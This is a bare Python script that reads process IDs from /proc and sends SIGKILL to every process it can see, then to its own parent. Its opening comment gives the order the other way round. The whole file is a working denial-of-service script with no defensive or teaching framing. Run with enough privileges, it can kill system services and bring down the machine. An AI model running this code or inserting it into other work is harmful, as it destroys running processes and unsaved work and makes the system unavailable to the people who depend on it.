# Kills its parent, then every process it can see.
import os
import signal

for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
os.kill(os.getppid(), signal.SIGKILL)
